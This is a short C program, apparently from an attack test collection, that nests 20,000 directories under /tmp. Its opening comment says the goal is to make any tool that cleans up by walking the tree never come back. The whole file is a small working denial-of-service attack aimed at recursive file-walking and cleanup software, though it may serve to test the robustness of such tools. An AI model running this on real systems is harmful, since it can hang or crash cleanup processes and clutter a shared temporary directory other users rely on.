/* Nests folders until something gives way: whoever clears up by walking the tree would never come back. */
#include "attack.h"

int main(void)
{
    chdir("/tmp");
    for (int i = 0; i < 20000; i++)
        if (mkdir("d", 0700) != 0 || chdir("d") != 0)
            return 1;
    puts("deep");
    return 0;
}
